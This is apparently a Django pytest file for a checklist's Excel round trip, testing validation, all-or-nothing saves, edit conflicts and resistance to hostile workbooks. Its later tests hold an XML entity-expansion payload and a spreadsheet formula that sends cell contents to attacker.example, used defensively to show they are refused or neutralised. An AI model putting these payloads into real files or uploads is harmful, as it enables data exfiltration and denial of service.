"""The checklist's Excel round trip: download, change offline, upload; all or nothing."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from filings.services import AnswerEdit, save_answers
from filings.workbook import checklist_workbook, read_checklist_workbook
from tests.factories import make_filing


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def download(client, filing):
    response = client.get(reverse("filings:workbook_download", args=[filing.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def row_of(sheet, code: str) -> int:
    return next(row[0].row for row in sheet.iter_rows(min_row=2) if row[1].value == code)


def upload(client, filing, book):
    out = io.BytesIO()
    book.save(out)
    file = SimpleUploadedFile("checklist.xlsx", out.getvalue())
    return client.post(reverse("filings:workbook_upload", args=[filing.pk]), {"file": file})


def test_a_changed_answer_round_trips_and_a_bad_row_saves_nothing(catalogue, staff):
    filing = make_filing(staff)
    client = client_for(staff)
    book = download(client, filing)
    sheet = book.active
    assert [cell.value for cell in sheet[1]][:5] == [
        "区分",
        "項目コード",
        "項目",
        sheet["D1"].value,
        "状態",
    ]
    assert sheet.data_validations.dataValidation[0].formula1 == '"実施済,一部実施,未実施,該当なし"'
    good, bad = row_of(sheet, "ORG-1"), row_of(sheet, "ORG-2")
    sheet.cell(good, 5, "実施済")
    sheet.cell(good, 6, "取締役会で承認した。")
    sheet.cell(bad, 5, "たぶん")  # not one of the statuses
    response = upload(client, filing, book)
    assert response.status_code == 400
    content = response.content.decode()
    assert "保存していません" in content and f"<td>{bad}</td><td>状態</td>" in content
    assert filing.answers.get(item__code="ORG-1").status == ""  # nothing saved
    sheet.cell(bad, 5, "一部実施")
    sheet.cell(bad, 6, "整備中")
    sheet.cell(bad, 8, "2027-03-31")
    response = upload(client, filing, book)
    assert response.status_code == 302
    answers = {a.item.code: a for a in filing.answers.filter(item__code__in=["ORG-1", "ORG-2"])}
    assert (answers["ORG-1"].status, answers["ORG-1"].implementation) == (
        "implemented",
        "取締役会で承認した。",
    )
    assert (answers["ORG-2"].status, str(answers["ORG-2"].target_date)) == ("partial", "2027-03-31")
    assert "2 件の項目をワークブックから保存しました" in client.get(response.url).content.decode()


def test_an_item_a_colleague_saved_after_the_download_is_a_conflict_and_nothing_is_saved(
    catalogue, staff, officer
):
    filing = make_filing(staff)
    client = client_for(staff)
    book = download(client, filing)
    sheet = book.active
    answer = filing.answers.get(item__code="ORG-1")
    values = {
        "status": "partial",
        "implementation": "先に保存",
        "justification": "",
        "target_date": None,
    }
    save_answers(
        filing=filing,
        actor=officer,
        edits=[
            AnswerEdit(
                item_id=answer.item_id,
                values=values,
                version=answer.version,
                digest=answer.content_digest(),
            )
        ],
    )
    sheet.cell(row_of(sheet, "ORG-1"), 5, "実施済")
    sheet.cell(row_of(sheet, "ORG-1"), 6, "後から")
    sheet.cell(row_of(sheet, "ORG-2"), 5, "実施済")
    sheet.cell(row_of(sheet, "ORG-2"), 6, "これも保存されない")
    response = upload(client, filing, book)
    assert response.status_code == 400
    assert "ダウンロードの後に" in response.content.decode()
    assert filing.answers.get(item__code="ORG-1").implementation == "先に保存"
    assert filing.answers.get(item__code="ORG-2").status == ""


def test_a_changed_header_or_a_file_that_is_not_a_workbook_is_refused(catalogue, staff):
    filing = make_filing(staff)
    client = client_for(staff)
    book = download(client, filing)
    book.active["B1"] = "code?"
    assert "見出し行が変更されています" in upload(client, filing, book).content.decode()
    text = SimpleUploadedFile("checklist.csv", b"a,b\n")
    response = client.post(reverse("filings:workbook_upload", args=[filing.pk]), {"file": text})
    assert response.status_code == 400 and ".xlsx" in response.content.decode()


# --- hostile workbooks: never a server error -----------------------------------------------------
def with_sheet(workbook: bytes, sheet_xml: bytes) -> bytes:
    """The downloaded workbook with its sheet's XML replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info, sheet_xml if info.filename == SHEET else data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
)


def damaged(workbook: bytes, how: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheet = archive.read(SHEET)
    if how == "truncated":
        return with_sheet(workbook, sheet[: len(sheet) // 2])
    if how == "mismatched-tag":
        return with_sheet(workbook, sheet.replace(b"</sheetData>", b"</sheetDta>", 1))
    body = sheet[sheet.index(b"<worksheet") :].replace(b"<t>", b"<t>&b;", 1)
    return with_sheet(workbook, ENTITY + body)


@pytest.mark.parametrize(
    ("how", "reason"),
    [
        ("truncated", "有効な XLSX ファイルではありません"),
        ("mismatched-tag", "有効な XLSX ファイルではありません"),
        ("doctype-entity", "エンティティ"),
    ],
)
def test_a_damaged_sheet_is_a_clear_error_never_a_server_error(catalogue, staff, how, reason):
    filing = make_filing(staff)
    client = client_for(staff)
    workbook = client.get(reverse("filings:workbook_download", args=[filing.pk])).content
    file = SimpleUploadedFile("checklist.xlsx", damaged(workbook, how))
    response = client.post(reverse("filings:workbook_upload", args=[filing.pk]), {"file": file})
    assert response.status_code == 400
    assert reason in response.content.decode()
    assert not filing.answers.exclude(status="").exists()


@pytest.mark.parametrize(
    ("how", "reason"),
    [
        ("truncated", "ワークブックとして読み取れませんでした"),
        ("mismatched-tag", "ワークブックとして読み取れませんでした"),
        ("doctype-entity", "エンティティ"),
    ],
)
def test_the_reader_parses_the_whole_sheet_inside_its_guard(catalogue, staff, how, reason):
    # The upload check refuses these first; the reader must stand on its own all the same.
    filing = make_filing(staff)
    with translation.override("ja"):
        read = read_checklist_workbook(filing, damaged(checklist_workbook(filing), how))
    assert not read.edits
    assert [error.row for error in read.errors] == [0]
    assert reason in read.errors[0].message


def test_answer_text_comes_back_as_text_never_as_a_formula(catalogue, staff):
    filing = make_filing(staff)
    answer = filing.answers.get(item__code="ORG-1")
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"クリック")'
    values = {
        "status": "partial",
        "implementation": hostile,
        "justification": "=1+1\x01",
        "target_date": None,
    }
    edit = AnswerEdit(answer.item_id, values, answer.version, answer.content_digest())
    save_answers(filing=filing, actor=staff, edits=[edit])
    client = client_for(staff)
    response = client.get(reverse("filings:workbook_download", args=[filing.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read(SHEET)
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = row_of(sheet, "ORG-1")
    assert (sheet.cell(row, 6).value, sheet.cell(row, 6).data_type) == (hostile, "s")
    assert sheet.cell(row, 7).value == "=1+1\ufffd"
